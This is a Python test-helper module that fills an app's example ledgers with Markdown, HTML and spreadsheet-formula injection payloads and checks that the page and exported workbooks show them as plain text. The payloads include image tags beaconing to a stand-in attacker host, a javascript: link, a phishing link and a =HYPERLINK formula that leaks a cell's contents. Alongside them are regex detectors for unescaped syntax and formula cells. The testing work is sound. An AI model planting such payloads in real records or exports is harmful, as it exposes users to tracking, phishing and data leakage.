"""An example city whose names are Markdown, HTML and spreadsheet-formula payloads, and the checks that they stay text.

The spec's example ledgers are imported with the names of one county, its township and a village, two
departments, three cadres, a beneficiary and an issue's description replaced by payloads that a county
office could type into its own roster: an image that makes the reader's browser fetch a URL, a link
that looks like the office's own, an HTML tag, a formula. `build_payload_database` builds it;
`markdown_texts` collects what the page sends to the browser as Markdown; `unescaped` finds a
payload that would still work there; `formula_cells` finds what a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
from google.protobuf.json_format import MessageToDict
from streamlit.testing.v1 import AppTest

from tests.conftest import EXAMPLE_DIR, EXAMPLE_TODAY, add_accounts
from tests.ingest_helpers import csv_bytes

# The example's names, each replaced by a payload (BEACON is replaced by the address of a listener).
BEACON = "http://evil.example"
PAYLOADS = {
    "东川县": '<img src="{beacon}/county.png">东川县',
    "西坪县": '<a href="{beacon}/chart">西坪县</a>',
    "东川乡": '=HYPERLINK("{beacon}/?leak="&A2,"东川乡")',
    "2村": "[2村](javascript:alert(1)) www.evil.example",
    "市民政局": "[点此核对名单]({beacon}/phish)",
    "市教育局": "**市教育局**`code` $x^2$ :red[红字]",
    "郭斌": "{beacon}/cadre",
    "黄静": "![]({beacon}/beacon.png)",  # a cadre with overdue contacts: his name heads a reminder
    "黄勇": "- 1. # 黄勇 | a | b |",
    "刘斌": "![刘]({beacon}/name.png)",
    "反映生活方面困难第1项": '<img src="{beacon}/description.png">',
}


def payload_names(beacon: str = BEACON) -> dict[str, str]:
    """Example name -> the payload that replaces it."""
    return {name: text.replace("{beacon}", beacon) for name, text in PAYLOADS.items()}


def build_payload_database(path: Path, beacon: str = BEACON) -> Path:
    """The example ledgers with payload names, imported on the pinned day, with the test accounts."""
    from pipeline import db
    from pipeline.ingest.load import import_bytes

    names = payload_names(beacon)
    with db.session(path) as con:
        for name in ("结对台账.csv", "走访记录.csv", "问题台账.csv"):
            rows = list(csv.reader(io.StringIO((EXAMPLE_DIR / name).read_text(encoding="utf-8-sig"))))
            rows = [[names.get(value, value) for value in row] for row in rows]
            report = import_bytes(con, csv_bytes(rows), name, today=EXAMPLE_TODAY)
            assert report.rejected == 0, [e.reason for e in report.errors[:3]]
    add_accounts(path)
    return path


# ---------------------------------------------------------------- what the page sends as Markdown

# proto fields that Streamlit renders as Markdown: bodies of markdown, headings, captions and alerts,
# labels and help of widgets, metrics, expanders, tabs, buttons and progress texts
_MARKDOWN_FIELDS = {"body", "label", "help", "text", "content"}
# elements whose text is shown as it is: tables, charts, code, plain text
_PLAIN_ELEMENTS = {"dataframe", "plotly_chart", "code", "text", "json", "arrow_data_frame"}


def _strings(value, key: str | None = None):
    if isinstance(value, dict):
        for name, item in value.items():
            yield from _strings(item, name)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item, key)
    elif isinstance(value, str) and key in _MARKDOWN_FIELDS:
        yield value


def markdown_texts(at: AppTest) -> list[str]:
    """Every text of the page that the browser reads as Markdown."""
    found: list[str] = []

    def walk(node) -> None:
        kind = getattr(node, "type", None)
        proto = getattr(node, "proto", None)
        if proto is not None and kind not in _PLAIN_ELEMENTS:
            data = MessageToDict(proto)
            if not ({"codeText", "spec", "figure", "arrowData", "data"} & set(data)):
                found.extend(_strings(data))
        for child in (getattr(node, "children", None) or {}).values():
            walk(child)

    walk(at._tree)
    # the app's own fixed style sheet (app_ui/page_style.py) holds no imported text
    from app_ui import page_style

    return [text for text in found if text.strip() != page_style.STYLE.strip()]


_ESCAPED = re.compile(r"\\[!-/:-@\[-`{-~]")
# what of the payloads Markdown would still read as a link, an image, a tag, code, emphasis, math, a
# table or a Streamlit directive (the app's own labels use none of these) ...
_SYNTAX = re.compile(r"\]\(|!\[|<[A-Za-z/!]|https?:|javascript:|www\.|`|\*\*市|\$x|:red\[|\| a \|", re.IGNORECASE)
# ... and the links GFM and Streamlit make from the text once the escapes are read: a backslash does not
# stop these, only a character between their letters (the escape puts in an invisible word joiner)
_BARE = re.compile(r"https?://|www\.|[\w.+-]@[\w-]+\.|:material/|:[a-z_]+:", re.IGNORECASE)


def unescaped(text: str) -> str | None:
    """The first piece of `text` that Markdown would still act on (None: it all shows as text)."""
    found = _SYNTAX.search(_ESCAPED.sub("§", text)) or _BARE.search(_ESCAPED.sub(lambda m: m[0][1], text))
    return found[0] if found else None


def plain(text: str) -> str:
    """Escaped Markdown as the reader sees it (the word joiners that break bare links are invisible)."""
    return _ESCAPED.sub(lambda m: m[0][1], text).replace("\u2060", "")


# ---------------------------------------------------------------- what a spreadsheet would run

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SHEET_FORBIDDEN = set("[]:*?/\\")


def formula_cells(content: bytes) -> list[str]:
    """Cells and sheet names of a workbook that a spreadsheet would run or refuse (empty: the file is inert)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        if len(sheet.title) > 31 or SHEET_FORBIDDEN & set(sheet.title) or sheet.title.startswith(FORMULA_STARTS):
            found.append(f"sheet name {sheet.title!r}")
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found
